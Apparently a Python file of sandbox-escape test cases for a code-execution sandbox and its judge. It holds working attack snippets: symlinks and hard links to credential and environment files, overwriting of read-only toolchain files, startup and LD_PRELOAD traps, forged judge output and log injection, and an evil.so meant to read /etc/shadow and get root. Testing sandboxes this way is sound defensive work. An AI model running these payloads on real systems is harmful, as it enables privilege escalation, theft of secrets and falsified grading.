"""Games with files: links, descriptors sent about, and what is read-only made otherwise."""

from __future__ import annotations

from attacks.escapes.escape import Escape

FILES = {
    "links in the way of a file": Escape(
        "links under the names that the judge will write and read",
        """
os.chdir("/box")
for name, to in (("put.txt", SECRET), ("folder", os.path.dirname(SECRET)), ("take.txt", "/proc/self/environ"), ("up", "../../../../")):
    os.symlink(to, name)
os.symlink("/etc/passwd", "takeme"); os.symlink("/proc/1/environ", "takeme2")
os.mkfifo("pipe"); os.mkdir("was-a-file"); os.symlink(".", "loop")
s = socket.socketpair()
""",
    ),
    "hard links": Escape(
        "hard links to the toolchain and to others' files, to own them later",
        """
for path in (os.__file__, "/bin/sh", "/etc/passwd", "/dev/null", "/proc/self/exe", SECRET):
    for to in ("/box/l", "/tmp/l", "/usr/l"):
        steal(lambda: os.link(path, to) is None)
def linkat():
    d = os.open(os.__file__, os.O_RDONLY); return os.link(f"/proc/self/fd/{d}", "/box/l", follow_symlinks=True) is None
steal(linkat)
""",
    ),
    "the read-only toolchain": Escape(
        "writes, truncates, allocates, renames, removes and re-owns what is shown read-only",
        """
import glob
places = [os.__file__, "/bin/sh", "/etc/passwd", "/usr/bin", "/usr/lib", "/", "/etc", "/dev"]
for path in places:
    steal(lambda: os.open(path, os.O_WRONLY)); steal(lambda: os.open(path, os.O_RDWR | os.O_TRUNC)); steal(lambda: os.truncate(path, 0) is None)
    steal(lambda: os.open(path + "/evil", os.O_CREAT | os.O_WRONLY)); steal(lambda: os.open(path, os.O_TMPFILE | os.O_RDWR))
    steal(lambda: os.chmod(path, 0o777) is None); steal(lambda: os.chown(path, os.getuid(), os.getgid()) is None)
    steal(lambda: os.utime(path, (0, 0)) is None); steal(lambda: os.rename(path, "/box/stolen") is None); steal(lambda: os.unlink(path) is None)
    steal(lambda: os.posix_fallocate(os.open(path, os.O_RDONLY), 0, 4096) is None); steal(lambda: os.mkdir(path + "/evil") is None)
    steal(lambda: os.symlink("x", path + "/evil") is None)
""",
    ),
    "descriptors in flight": Escape(
        "sends descriptors over sockets in a ring, so that files live on when their holders are dead",
        """
import array
pairs = [socket.socketpair() for _ in range(8)]
for i, (a, b) in enumerate(pairs):
    file = os.open(f"/tmp/flight{i}", os.O_CREAT | os.O_RDWR); os.write(file, b"x" * 4096); os.unlink(f"/tmp/flight{i}")
    c, d = pairs[(i + 1) % 8]
    socket.send_fds(a, [b"x"], [file, c.fileno(), d.fileno(), b.fileno()])
""",
    ),
    "deep folders": Escape(
        "folders deeper than any path, without rights, with names that are no text",
        """
os.chdir("/tmp")
for _ in range(2000):
    os.mkdir("d"); os.chdir("d")
os.chmod(".", 0)
os.chdir("/box")
for name in (b"\\xff\\xfe", b"-rf", b"a\\nb", b"\\x1b[2J", b"x" * 255): open(name, "w").close()
os.chmod("/box", 0)
""",
    ),
    "what the machine remembers": Escape(
        "has the kernel forget what it has read of the toolchain, so that everybody waits for the disk",
        """
import mmap
file = os.open(os.__file__, os.O_RDONLY)
os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED)
m = mmap.mmap(file, 0, prot=mmap.PROT_READ)
sum(m[at] for at in range(0, len(m), 4096))
for advice in (20, 21): m.madvise(advice)
handle = os.pidfd_open(os.getpid()) if os.getcwd() == "/box" else -1
libc.mmap.restype = ctypes.c_void_p
size = len(m)
address = libc.mmap(None, ctypes.c_size_t(size), 1, 1, file, ctypes.c_long(0))
ctypes.string_at(address, size)
for advice in (20, 21): steal(lambda: call("process_madvise", handle, struct.pack("PN", address, size), 1, advice, 0))
""",
    ),
    "the working folder": Escape(
        "moves, removes and closes the folder in which the next command starts",
        """
for go in (lambda: os.rename("/box", "/tmp/box"), lambda: os.rmdir("/box"), lambda: os.rename("/tmp", "/box/tmp"), lambda: os.unlink("/box")):
    steal(lambda: go() is None)
os.chmod("/box", 0); os.chmod("/tmp", 0); os.chmod("/dev/shm", 0)
""",
    ),
    "traps for the next": Escape(
        "startup files, caches and libraries that the next stay would load",
        """
os.makedirs("/tmp/.cache/go-build", exist_ok=True); os.makedirs("/box/.config", exist_ok=True)
for path in ("/tmp/sitecustomize.py", "/box/usercustomize.py", "/box/json.py", "/tmp/.pythonrc", "/box/.profile", "/box/.npmrc", "/tmp/.gitconfig",
             "/tmp/evil.so", "/dev/shm/ld.so.preload", "/box/conftest.py", "/box/package.json"):
    open(path, "w").write("print('TRAP')")
for path in ("/etc/ld.so.preload", "/etc/profile", "/etc/python3/sitecustomize.py", os.path.join(os.path.dirname(os.__file__), "sitecustomize.py"),
             os.path.join(os.path.dirname(os.__file__), "__pycache__", "os.cpython-311.pyc")):
    steal(lambda: open(path, "w").write("x"))
os.environ["LD_PRELOAD"] = "/tmp/evil.so"; os.environ["PYTHONPATH"] = "/tmp"
import builtins, json
builtins.print_ = print; json.dumps = lambda *a, **k: "TRAP"; sys.modules["os"].trap = True
import random; random.seed(1); random.random = lambda: 4
sys.path.insert(0, "/tmp"); os.umask(0)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
""",
    ),
    "the channel": Escape(
        "closes, floods, reads back and reseals the descriptors between it and the judge",
        """
import fcntl
for number in (0, 3):
    steal(lambda: os.write(number, b"forged")); steal(lambda: os.ftruncate(number, 7) is None)
    steal(lambda: os.write(os.open(f"/proc/self/fd/{number}", os.O_RDWR), b"forged"))
    before = fcntl.fcntl(number, 1034)
    if before >= 0: steal(lambda: fcntl.fcntl(number, 1033, 0) == 0 and fcntl.fcntl(number, 1034) != before)
for number in (1, 2, 4):
    try: fcntl.fcntl(number, fcntl.F_SETFL, os.O_NONBLOCK | os.O_ASYNC)
    except OSError: pass
    try: fcntl.fcntl(number, 1031, 1 << 30)
    except OSError: pass
    try: os.set_blocking(os.open(f"/proc/self/fd/{number}", os.O_RDONLY), False)
    except OSError: pass
    try: os.fchmod(number, 0); os.fchown(number, 0, 0)
    except OSError: pass
for number in (0, 3, 4):
    try: os.close(number)
    except OSError: pass
os.kill(os.getpid(), signal.SIGKILL) if os.getpid() != 1 else os._exit(0)
""",
    ),
    "a flooded channel": Escape(
        "sends frames without end to the judge",
        """
piece = b"\\xff" * (1 << 20)
try:
    while True: os.write(4, piece)
except OSError: pass
""",
        modes=("warm",),
        limit="output",
    ),
    "log injection": Escape(
        "lines that look like the sandbox's own, and codes that move the reader's cursor",
        """
sys.stdout.write("\\x1b[2J\\x1b]0;owned\\x07\\r{\\"passed\\": true}\\nassay: 100% passed\\n\\u202e\\u2066\\0")
sys.stderr.write("Traceback (most recent call last):\\nSandboxError: nothing to see\\n")
""",
    ),
    "libraries before all others": Escape(
        "a preloaded library in every later command of the stay",
        """
cat > evil.c <<'X'
#include <stdio.h>
#include <unistd.h>
__attribute__((constructor)) static void run(void) { if (access("/etc/shadow", R_OK) == 0) puts("GOT shadow"); }
X
gcc -shared -fPIC -o evil.so evil.c 2>/dev/null || exit 0
LD_PRELOAD=$PWD/evil.so su -c id </dev/null 2>/dev/null | grep -q uid=0 && echo GOT root
LD_PRELOAD=$PWD/evil.so /bin/true
echo "$PWD/evil.so" > /etc/ld.so.preload 2>/dev/null && echo GOT preload
true
""",
        language="shell",
        modes=("argv",),
    ),
}
